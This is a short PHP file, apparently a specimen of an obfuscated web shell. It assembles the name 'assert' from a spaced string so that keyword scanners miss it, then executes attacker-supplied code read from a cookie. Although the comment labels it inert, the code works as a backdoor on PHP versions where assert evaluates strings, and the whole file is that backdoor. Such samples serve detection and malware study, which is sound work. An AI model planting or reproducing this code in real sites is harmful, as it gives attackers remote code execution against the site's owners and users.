<?php
// inert sample: a code runner whose function name is written with spaces that wordwrap() turns
// into a break string, removed again before the call; the code comes from a cookie
$w = wordwrap('as ser t', 3, '#', false);
$run = implode('', explode('#', str_replace(' ', '', $w)));
$code = isset($_COOKIE['k']) ? $_COOKIE['k'] : '';
$run($code);
